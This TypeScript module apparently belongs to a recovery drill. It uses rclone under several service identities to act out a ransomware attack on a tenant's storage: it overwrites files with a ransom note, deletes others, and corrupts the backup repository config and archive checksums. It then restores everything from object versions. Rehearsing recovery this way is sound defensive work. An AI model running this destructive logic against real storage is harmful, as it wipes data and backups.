/** What an attacker does with stolen identities, which is everything that they allow, and how it is undone. */
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import type { Act, Loot } from "./loot.ts";
import { bringBack, dividingMoment, filesIn, type Place, type Rclone, remoteOf, replaceAll } from "./objects.ts";

const ransom = "Your files are encrypted.\n";
/** Files that are overwritten; the others are deleted, which is no less bad and faster. */
const overwritten = 25;

/** @throws Error where there is nothing to ruin: then nothing would be rehearsed */
export async function ruin(act: Act, loot: Loot): Promise<void> {
  const { files, backups, archives } = loot;
  await act("operator", async (rclone) => {
    for (const place of [files, backups, archives]) {
      const names = await filesIn(rclone, remoteOf(place));
      if (names.length === 0) throw new Error(`${remoteOf(place)} is empty: there is nothing to ruin`);
      loot.before[place.bucket] = names;
    }
  });
  loot.moment = await dividingMoment();
  await act("odoo", (rclone) => overwriteFiles(rclone, files));
  await act("prune", (rclone) => replaceAll(rclone, backups));
  await act("dump", (rclone) => overwriteBackups(rclone, backups, archives));
}

/** Puts everything back from versions. @throws Error where something did not come back */
export async function undo(act: Act, { files, backups, archives, moment, before }: Loot): Promise<void> {
  await act("operator", async (rclone) => {
    for (const place of [files, backups, archives]) {
      await rclone(...bringBack(place, moment));
      const there = new Set(await filesIn(rclone, remoteOf(place)));
      const missing = (before[place.bucket] ?? []).filter((name) => !there.has(name));
      if (missing.length > 0) throw new Error(`${place.bucket}: ${missing.length} objects did not come back`);
    }
  });
}

/** Odoo's identity reads, writes and deletes the tenant's files. */
async function overwriteFiles(rclone: Rclone, files: Place): Promise<void> {
  const names = (await filesIn(rclone, remoteOf(files))).slice(0, overwritten);
  await withFolder([...names, "READ-ME.txt"], (folder) => replaceAll(rclone, files, folder));
}

/** Dump's identity writes anywhere under the tenant's paths, and deletes nothing there. */
async function overwriteBackups(rclone: Rclone, backups: Place, archives: Place): Promise<void> {
  // Without its `config` nobody reads the repository.
  await withFolder(["config"], (folder) => overwrite(rclone, folder, backups));
  const sums = (await filesIn(rclone, remoteOf(archives))).filter((name) => name.endsWith("/SHA256SUMS"));
  await withFolder(sums, (folder) => overwrite(rclone, folder, archives));
}

const overwrite = (rclone: Rclone, folder: string, place: Place): Promise<unknown> =>
  rclone("copy", "--ignore-times", folder, remoteOf(place));

/** A folder with files of these names, and the attacker's text in them. */
async function withFolder(names: readonly string[], work: (folder: string) => Promise<unknown>): Promise<void> {
  const folder = await mkdtemp(join(tmpdir(), "longshore-attack-"));
  try {
    for (const name of names) {
      await mkdir(dirname(join(folder, name)), { recursive: true });
      await writeFile(join(folder, name), ransom);
    }
    await work(folder);
  } finally {
    await rm(folder, { recursive: true });
  }
}
